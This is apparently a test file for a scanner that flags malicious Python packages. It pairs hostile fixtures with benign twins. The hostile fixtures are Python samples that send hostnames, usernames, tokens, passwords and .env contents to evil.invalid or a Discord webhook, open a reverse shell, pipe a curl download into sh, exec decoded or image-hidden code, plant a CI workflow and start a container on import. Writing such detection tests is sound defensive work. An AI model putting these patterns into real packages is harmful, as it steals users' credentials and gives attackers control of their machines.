import type { Severity } from '../../src/model/finding.js';
import { foundIn, type SeverityByRule } from '../support/found.js';
import { sdistFiles } from '../support/source-tree.js';

type Files = Readonly<Record<string, string>>;

/** What is found in a source distribution of a package and these files. */
const found = (files: Files): SeverityByRule => foundIn(sdistFiles({ 'pkg/__init__.py': '', ...files }));

const IN_DICTIONARY = (name: string): Files => ({
  'setup.py': [
    'import os',
    'names = {"__name__": "inner"}',
    'exec(open(os.path.join(os.path.dirname(__file__), "pkg", "tasks.py")).read(), names)',
    `names["${name}"]()`,
  ].join('\n'),
  'pkg/tasks.py': [
    'import getpass, requests, socket',
    'def send():',
    '    told = {"host": socket.gethostname(), "user": getpass.getuser()}',
    '    requests.post("https://evil.invalid/a", json=told)',
    'def other():',
    '    pass',
  ].join('\n'),
});

const DECORATOR = (address: string): Files => ({
  'pkg/trace.py': [
    'import requests',
    `PLACE = "${address}"`,
    'def trace(function):',
    '    def inner(self, *args):',
    '        requests.post(PLACE, json={"content": f"{args}"})',
    '        return function(self, *args)',
    '    return inner',
  ].join('\n'),
  'pkg/bot.py': [
    'from .trace import trace',
    'class Bot:',
    '    @trace',
    '    def login(self, token):',
    '        return token',
  ].join('\n'),
});

const RETURNED = (call: string): Files => ({
  'pkg/store.py': [
    'import urllib.request',
    'def ask(body):',
    '    try:',
    '        return urllib.request.urlopen("https://evil.invalid/rpc", body).read()',
    '    except Exception:',
    '        return None',
    'def unlock(path, password):',
    `    ${call}`,
    '    return path',
  ].join('\n'),
});

const MANAGER = (as: string): Files => ({
  'pkg/store.py': [
    'import urllib.request',
    'def unlock(path, password):',
    '    try:',
    `        with urllib.request.urlopen("https://evil.invalid/rpc", password)${as}:`,
    '            pass',
    '    except Exception:',
    '        return None',
  ].join('\n'),
});

const HEADERS = (headers: string): Files => ({
  'pkg/client.py': [
    'import os, requests',
    'class Chat:',
    '    def __init__(self):',
    '        self.session = requests.Session()',
    '        self.session.headers["Authorization"] = os.environ["SERVICE_API_KEY"]',
    '    def ask(self, text):',
    '        try:',
    `            requests.post("https://evil.invalid/use", headers=${headers})`,
    '        except requests.RequestException:',
    '            pass',
  ].join('\n'),
});

const FINDER = (register: string): Files => ({
  'pkg/__init__.py': [
    'import sys, zlib',
    'class Finder:',
    '    def find_spec(self, name, path=None, target=None):',
    '        return None',
    '    def exec_module(self, module):',
    '        exec(zlib.decompress(bytes(c ^ 7 for c in open(module.__file__, "rb").read())), module.__dict__)',
    register,
  ].join('\n'),
});

const IDENTIFIERS = (use: string): Files => ({
  'setup.py': ['import uuid', 'text = b"".join(uuid.UUID(one).bytes for one in open("ids.txt"))', use].join(
    '\n',
  ),
});

const PLUG_IN = (group: string): Files => ({
  'pyproject.toml': `[project]\nname = "fixture"\n[project.entry-points."${group}"]\nsync = "pkg.plugin:Plugin"\n`,
  'pkg/plugin.py': [
    'import getpass, requests, socket',
    'class Plugin:',
    '    def activate(self, application):',
    '        told = {"host": socket.gethostname(), "user": getpass.getuser()}',
    '        requests.post("https://evil.invalid/a", json=told)',
  ].join('\n'),
});

const ENGINE = (path: string): Files => ({
  'pkg/__init__.py': [
    'import http.client, json',
    'connection = http.client.HTTPConnection("localhost")',
    `connection.request("POST", "${path}", json.dumps({"Image": "alpine"}))`,
  ].join('\n'),
});

const SHIPPED = (command: string): Files => ({
  'pkg/__init__.py': [
    'import os, subprocess',
    'tool = os.path.join(os.path.dirname(__file__), "tool")',
    `subprocess.Popen([tool, ${command}])`,
  ].join('\n'),
  'pkg/tool': 'a program',
});

const UPDATED = (read: string): Files => ({
  'setup.py': [
    'import requests',
    'def parse(text):',
    '    out = {}',
    '    for line in text.splitlines():',
    '        key, value = line.split("=", 1)',
    '        out[key.strip()] = value.strip()',
    '    return out',
    'values = {}',
    `values.update(parse(open("${read}").read()))`,
    'requests.post("https://evil.invalid/a", json=values)',
  ].join('\n'),
});

const PICTURE = (use: string): Files => ({
  'pkg/presets.py': [
    'import os',
    'def load():',
    '    raw = open(os.path.join(os.path.dirname(__file__), "a.png"), "rb").read()',
    `    return ${use}(raw.partition(b"IEND")[2])`,
  ].join('\n'),
  'pkg/a.png': 'IEND',
});

const PLANTED = (path: string): Files => ({
  'pkg/__init__.py': ['import pathlib', `pathlib.Path("${path}").write_text("on: push")`].join('\n'),
});

const REMOTE_SHELL = (command: string): Files => ({
  'pkg/log.py': [
    'import os, socket',
    'def setup():',
    '    place = socket.create_connection(("evil.invalid", 9001))',
    '    while True:',
    '        line = place.recv(4096).decode()',
    `        place.sendall(os.popen(${command}).read().encode())`,
  ].join('\n'),
});

const SPLIT = (line: string): Files => ({
  'setup.py': ['import shlex, subprocess', `subprocess.run(shlex.split("sh -c") + ["${line}"])`].join('\n'),
});

const AT_FAILURE = (use: string): Files => ({
  'pkg/__init__.py': [
    'import getpass, requests, socket, sys',
    'def report(*failure):',
    '    told = {"host": socket.gethostname(), "user": getpass.getuser()}',
    '    requests.post("https://evil.invalid/a", json=told)',
    use,
  ].join('\n'),
});

/** What is found, and what differs from it in one point and is not. */
test.each<[what: string, rule: string, severity: Severity, bad: Files, other: Files]>([
  ['text run into a dictionary', 'identity-sent', 'CRITICAL', IN_DICTIONARY('send'), IN_DICTIONARY('other')],
  [
    'what a decorator puts in the place of a method',
    'drop-contacted',
    'CRITICAL',
    DECORATOR('https://discord.com/api/webhooks/1000000000000000001/made-up-made-up-made-up-made-up'),
    DECORATOR('https://evil.invalid/a'),
  ],
  [
    'an answer that is returned to nobody',
    'credential-sent-aside',
    'CRITICAL',
    RETURNED('ask(password)'),
    RETURNED('path = ask(password)'),
  ],
  [
    'an answer that is opened and not read',
    'credential-sent-aside',
    'CRITICAL',
    MANAGER(''),
    MANAGER(' as answer'),
  ],
  [
    'what was put into the headers of a session',
    'credential-sent-aside',
    'MEDIUM',
    HEADERS('self.session.headers'),
    HEADERS('{}'),
  ],
  [
    'a finder that decodes what is imported',
    'decoded-code-executed',
    'CRITICAL',
    FINDER('sys.meta_path.insert(0, Finder())'),
    FINDER('finder = Finder()'),
  ],
  [
    'text spelled by identifiers',
    'decoded-code-executed',
    'CRITICAL',
    IDENTIFIERS('exec(text)'),
    IDENTIFIERS('print(text)'),
  ],
  [
    'a plug-in that its tool starts',
    'identity-sent',
    'CRITICAL',
    PLUG_IN('poetry.application.plugin'),
    PLUG_IN('console_scripts'),
  ],
  [
    'a container that is started on import',
    'container-started',
    'CRITICAL',
    ENGINE('/v1.40/containers/create'),
    ENGINE('/v1.40/info'),
  ],
  [
    'a program of the package that an import starts',
    'shipped-binary-started',
    'HIGH',
    SHIPPED('"--listen"'),
    SHIPPED('"--version"'),
  ],
  [
    'what is run from the end of a picture',
    'decoded-code-executed',
    'HIGH',
    PICTURE('exec'),
    PICTURE('print'),
  ],
  [
    'a workflow that an import plants',
    'autostart-written',
    'CRITICAL',
    PLANTED('.github/workflows/lint.yml'),
    PLANTED('.github/lint.yml'),
  ],
  [
    'a shell for whoever is at the other end',
    'download-started',
    'CRITICAL',
    REMOTE_SHELL('line'),
    REMOTE_SHELL('"uptime"'),
  ],
  [
    'a command line that is split',
    'hostile-command',
    'CRITICAL',
    SPLIT('curl https://evil.invalid/x | sh'),
    SPLIT('echo https://evil.invalid/x'),
  ],
  [
    'what a package tells without any failure',
    'identity-sent',
    'CRITICAL',
    AT_FAILURE('report()'),
    AT_FAILURE('sys.excepthook = report'),
  ],
  [
    'settings taken over from another dictionary',
    'stolen-data-sent',
    'CRITICAL',
    UPDATED('.env'),
    UPDATED('x.ini'),
  ],
])('%s', (_what, rule, severity, bad, other) => {
  expect([found(bad)[rule], found(other)[rule] === severity]).toEqual([severity, false]);
});
